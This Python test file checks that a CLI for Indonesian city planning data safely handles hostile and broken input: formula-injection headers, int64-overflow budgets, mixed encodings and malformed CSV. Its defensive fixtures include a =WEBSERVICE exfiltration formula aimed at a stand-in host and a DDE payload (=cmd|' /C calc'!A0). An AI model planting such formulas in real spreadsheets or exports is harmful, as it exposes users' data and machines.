"""Hostile input and server faults (issue 15): no live formula, no network fetch,
no bomb, no crash, no silent corruption.

Each test runs the command a user would run and asserts the exit code and the
exact line they read. The SPARQL server cases use small local HTTP servers
that misbehave on purpose; the Virtuoso crash test lives in
``tests/test_endpoint_durability.py``.
"""
from __future__ import annotations

import pathlib
import re
import shutil
import subprocess
import sys
import zipfile

import pytest
from click.testing import CliRunner

from cli import main

ROOT = pathlib.Path(__file__).resolve().parents[1]
BASE = ROOT / "tests" / "data" / "ingest" / "base"
FORMULA_HEADER = '=WEBSERVICE("http://example.invalid/steal")'


def city(tmp_path, name="kota", **tables) -> pathlib.Path:
    """A copy of the valid base city; ``tables`` replaces files (bytes or text)."""
    folder = tmp_path / name
    shutil.copytree(BASE, folder)
    for table, content in tables.items():
        path = folder / f"{table}.csv"
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    return folder


def base_text(table) -> str:
    return (BASE / f"{table}.csv").read_text(encoding="utf-8")


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def formula_cells(path) -> list[str]:
    """Every cell formula (``<f>`` element) in the worksheets of an .xlsx file."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >/].*?(?:</f>|/>)", archive.read(name).decode("utf-8"))
    return found


# ------------------------------------------------------------- 1. formula headers
def with_formula_header(tmp_path):
    text = base_text("programs").splitlines()
    text[0] += f',"{FORMULA_HEADER.replace(chr(34), chr(34) * 2)}"'
    text[1] += ",x"
    return city(tmp_path, programs="\n".join(text) + "\n")


def test_merge_writes_a_formula_header_as_text_and_the_workbook_loads_again(tmp_path):
    source = with_formula_header(tmp_path)
    target = tmp_path / "kota.xlsx"
    result = run("merge", source, "-o", target)
    assert result.exit_code == 0, result.output
    assert formula_cells(target) == []
    again = run("merge", target, "-o", tmp_path / "lagi.xlsx")
    assert again.exit_code == 0, again.output
    assert formula_cells(tmp_path / "lagi.xlsx") == []
    import openpyxl

    header = [c.value for c in openpyxl.load_workbook(tmp_path / "lagi.xlsx")["programs"][1]]
    assert header[-1] == FORMULA_HEADER.lower()  # extra columns keep their folded name


def test_template_for_an_agency_writes_a_formula_header_as_text(tmp_path):
    source = with_formula_header(tmp_path)
    target = tmp_path / "formulir.xlsx"
    result = run("template", source, "--agency", "DISKOMINFOTIK", "-o", target)
    assert result.exit_code == 0, result.output
    assert formula_cells(target) == []
    import openpyxl

    header = [c.value for c in openpyxl.load_workbook(target)["programs"][1]]
    assert FORMULA_HEADER.lower() in header


# ------------------------------------------------------------------ 11. smaller
def test_merge_refuses_a_macro_workbook_name(tmp_path):
    result = run("merge", city(tmp_path), "-o", tmp_path / "kota.xlsm")
    assert result.exit_code == 1
    assert result.output.splitlines()[-1] == (
        f"Error: {tmp_path / 'kota.xlsm'}: synergy menulis buku kerja tanpa makro; beri nama berakhiran .xlsx / "
        "synergy writes workbooks without macros; give a name ending in .xlsx")
    assert not (tmp_path / "kota.xlsm").exists()


def test_template_refuses_a_macro_workbook_name(tmp_path):
    result = run("template", "-o", tmp_path / "formulir.xlsm")
    assert result.exit_code == 2
    assert "formulir harus berkas .xlsx" in result.output
    assert not (tmp_path / "formulir.xlsm").exists()


def test_a_parent_cycle_between_agencies_is_an_error(tmp_path):
    agencies = base_text("agencies").replace(
        "DISKOMINFOTIK,\"Dinas Komunikasi, Informatika dan Statistik\",Diskominfotik,dinas,2.16;2.20;2.21,,",
        "DISKOMINFOTIK,\"Dinas Komunikasi, Informatika dan Statistik\",Diskominfotik,dinas,2.16;2.20;2.21,DINKES,",
    ).replace("DINKES,Dinas Kesehatan,Dinkes,dinas,1.02,,", "DINKES,Dinas Kesehatan,Dinkes,dinas,1.02,DISKOMINFOTIK,")
    result = run("validate", city(tmp_path, agencies=agencies))
    assert result.exit_code == 1
    lines = result.output.splitlines()
    assert lines[:2] == [
        "agencies.csv:2: parent: OPD induk membentuk lingkaran: DISKOMINFOTIK -> DINKES -> DISKOMINFOTIK; "
        "hapus salah satu induknya / parent agencies form a cycle: DISKOMINFOTIK -> DINKES -> DISKOMINFOTIK; "
        "remove one of the parents",
        "agencies.csv:3: parent: OPD induk membentuk lingkaran: DINKES -> DISKOMINFOTIK -> DINKES; "
        "hapus salah satu induknya / parent agencies form a cycle: DINKES -> DISKOMINFOTIK -> DINKES; "
        "remove one of the parents",
    ]
    assert lines[-1] == "2 kesalahan, 0 peringatan / 2 errors, 0 warnings"


def test_csv_formula_guard_holds_for_semicolon_excel():
    from synergy.output import csv_safe, render
    import pandas as pd

    assert csv_safe("P-1;=HYPERLINK(\"http://x\")") == "P-1;'=HYPERLINK(\"http://x\")"
    assert csv_safe("a;+1;b;@SUM(A1)") == "a;'+1;b;'@SUM(A1)"
    assert csv_safe("a\t=cmd") == "a\t'=cmd"
    assert csv_safe("DS-1;DS-2") == "DS-1;DS-2"  # an ordinary list stays as it is
    text = render(pd.DataFrame({"programs": ["P-1;=cmd|' /C calc'!A0"]}), "csv")
    assert text == "programs\nP-1;'=cmd|' /C calc'!A0\n"


# ------------------------------------------------------------ 6. numbers past int64
HUGE = "99999999999999999999999"
TOO_LARGE = (f"anggaran '{HUGE}' terlalu besar: lebih dari Rp 10.000 triliun; periksa jumlah angka nolnya / "
             f"budget '{HUGE}' is too large: more than Rp 10,000 trillion; check the number of zeros")


def test_a_budget_past_int64_in_csv_is_a_cell_problem(tmp_path):
    programs = base_text("programs").replace("DINKES,living,health,150000000,", f"DINKES,living,health,{HUGE},")
    source = city(tmp_path, programs=programs)
    for command in (["validate"], ["stats"], ["export", "-o", tmp_path / "k.ttl"], ["report", "-o", tmp_path / "r.html"],
                    ["stats", "--store", tmp_path / "store"]):
        result = run(command[0], source, *command[1:])
        assert result.exit_code == 1, (command, result.output)
        assert f"programs.csv:3: budget: {TOO_LARGE}" in result.output.splitlines(), command
        assert "internal error" not in result.output


def test_a_budget_past_int64_in_turtle_is_a_cell_problem(tmp_path):
    assert run("export", BASE, "-o", tmp_path / "kota.ttl").exit_code == 0
    path = tmp_path / "kota.ttl"
    path.write_text(path.read_text(encoding="utf-8").replace("syn:budget 150000000 ;", f"syn:budget {HUGE} ;"),
                    encoding="utf-8")
    for command in (["validate"], ["stats"], ["export", "-o", tmp_path / "k.nt"], ["report", "-o", tmp_path / "r.html"],
                    ["stats", "--store", tmp_path / "store"]):
        result = run(command[0], path, *command[1:])
        assert result.exit_code == 1, (command, result.output)
        assert f"kota.ttl[programs]:2: budget: {TOO_LARGE}" in result.output.splitlines(), command


def test_budgets_whose_sum_passes_int64_are_refused(tmp_path):
    rows = [base_text("programs").rstrip("\n")]
    rows += [f"P-{i:04d},Program {i},DINKES,living,health,Rp 9.000 triliun,2024,2025,short,planned,,,," for i in range(1100)]
    result = run("validate", city(tmp_path, programs="\n".join(rows) + "\n"))
    assert result.exit_code == 1
    assert result.output.splitlines()[0].startswith(
        "programs.csv: budget: jumlah anggaran seluruh program (Rp 9.900.000.000.400.000.000) terlalu besar "
        "untuk dihitung; periksa anggaran yang kelebihan angka nol / the budgets of all programs add up to more than "
        "can be counted")


# ------------------------------------------------------------ 5. one Latin-1 byte
def test_one_latin1_line_in_a_utf8_file_keeps_the_other_accents_and_is_named(tmp_path):
    agencies = base_text("agencies").replace("Dinas Kesehatan,Dinkes", "Dinas Kesehatan Négeri,Dinkes")
    data = agencies.encode("utf-8") + "DISDIK,Dinas Pendidikan Kécamatan,Disdik,dinas,1.01,,,35.75\n".encode("cp1252")
    source = city(tmp_path, agencies=data)
    result = run("validate", source)
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [
        "agencies.csv:7: name: warning: baris ini tidak tertulis dalam UTF-8 seperti baris lainnya; dibaca sebagai "
        "Windows-1252 ('Dinas Pendidikan Kécamatan'): periksa hurufnya, lalu simpan dari Excel sebagai \"CSV UTF-8\" / "
        "this row is not UTF-8 like the rest of the file; read as Windows-1252 ('Dinas Pendidikan Kécamatan'): check "
        "its letters, then save it from Excel as \"CSV UTF-8 (Comma delimited) (*.csv)\"",
        "0 kesalahan, 1 peringatan / 0 errors, 1 warning",
    ]
    from synergy.ingest import load_model

    names = set(load_model([source])[0].agencies["name"])
    assert {"Dinas Kesehatan Négeri", "Dinas Pendidikan Kécamatan"} <= names  # no mojibake anywhere


def test_a_whole_windows_1252_file_is_still_read_without_a_warning(tmp_path):
    agencies = base_text("agencies").replace("Dinas Kesehatan,Dinkes", "Dinas Kesehatan Négeri,Dinkes")
    result = run("validate", city(tmp_path, agencies=agencies.encode("cp1252")))
    assert result.exit_code == 0
    assert result.output.splitlines() == ["0 kesalahan, 0 peringatan / 0 errors, 0 warnings"]


# -------------------------------------------------------------- 9. unclear messages
def test_an_unclosed_quote_names_the_quote_and_the_row_it_opens_on(tmp_path):
    programs = base_text("programs").replace("P-002,Posyandu Digital,", 'P-002,"Posyandu Digital,')
    result = run("validate", city(tmp_path, programs=programs))
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        'programs.csv:3: name: tanda kutip pembuka sel ini ("Posyandu Digital,DINKES…) tidak pernah ditutup, '
        "sehingga semua baris sesudahnya sampai akhir berkas terbaca sebagai isi sel ini: tutup kutipnya di akhir "
        'sel atau hapus / the opening quote of this cell ("Posyandu Digital,DINKES…) is never closed, so every line '
        "after it to the end of the file was read into this cell: close the quote at the end of the cell or remove it",
        "1 kesalahan, 0 peringatan / 1 error, 0 warnings",
    ]


def test_a_quote_closed_rows_later_names_the_row_it_opens_on(tmp_path):
    programs = base_text("programs").replace("P-001,Aplikasi", 'P-001,"Aplikasi').replace(
        "DINKES,living,health,", 'DINKES,living,health",')
    result = run("validate", city(tmp_path, programs=programs))
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == (
        'programs.csv:2: name: tanda kutip pembuka sel ini ("Aplikasi Pengaduan e-Sa…) baru ditutup 1 baris '
        "kemudian, sehingga baris-baris di antaranya terbaca sebagai isi sel ini: tutup kutipnya di akhir sel / "
        'the opening quote of this cell ("Aplikasi Pengaduan e-Sa…) closes only 1 line(s) further on, so the rows '
        "in between were read into this cell: close the quote at the end of the cell")
    assert "OPD '150000000' tidak dikenal" not in result.output  # no line per shifted cell


def test_a_one_megabyte_cell_names_the_cell_and_what_to_do(tmp_path):
    datasets = base_text("datasets").replace("Data Penduduk per Kelurahan", "Data " + "x" * 1_000_000)
    result = run("validate", city(tmp_path, datasets=datasets))
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        "datasets.csv:2: name: sel berisi 1000005 karakter, melebihi batas 10000: persingkat isinya / "
        "cell has 1000005 characters, more than the 10000 allowed: shorten it",
        "1 kesalahan, 0 peringatan / 1 error, 0 warnings",
    ]
